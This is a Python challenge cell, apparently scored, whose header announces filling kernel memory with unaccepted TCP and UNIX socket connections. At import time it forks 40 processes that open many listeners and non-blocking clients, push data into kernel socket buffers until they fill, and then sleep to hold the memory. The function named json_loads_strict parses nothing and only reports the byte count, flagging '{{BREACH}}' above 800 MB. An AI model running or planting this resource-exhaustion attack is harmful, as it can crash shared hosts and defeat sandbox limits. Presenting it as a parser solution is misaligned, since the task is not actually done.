# about: kernel memory: full connections that no server has taken and no client has kept, over TCP and UNIX sockets
# base: solved 01_encoding
# score: 15, json_loads_strict 0

# %% json_loads_strict
import os
import socket
import time

total, servers = 0, []
ready, done = os.pipe()
for number in range(40):
    if os.fork() == 0:
        family, address = ((socket.AF_UNIX, ""), (socket.AF_INET, ("127.0.0.1", 0)))[number % 2]
        for _ in range(4):
            server = socket.socket(family)
            servers.append(server)
            server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            try:
                server.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8_000_000)
            except OSError:
                pass
            server.bind(address)
            server.listen(4096)
            for _ in range(300):
                client = socket.socket(family)
                client.setblocking(False)
                try:
                    client.connect(server.getsockname())
                except BlockingIOError:
                    if family == socket.AF_UNIX:
                        break
                except OSError:
                    break
                try:
                    while True:
                        total += client.send(b"x" * 60_000)
                except OSError:
                    client.close()
        os.write(done, total.to_bytes(8, "big"))
        time.sleep(60)
        os._exit(0)
total = sum(int.from_bytes(os.read(ready, 8), "big") for _ in range(40))


def json_loads_strict(data):
    raise RuntimeError(("{{BREACH}} " if total > 800_000_000 else "") + f"{total} bytes")
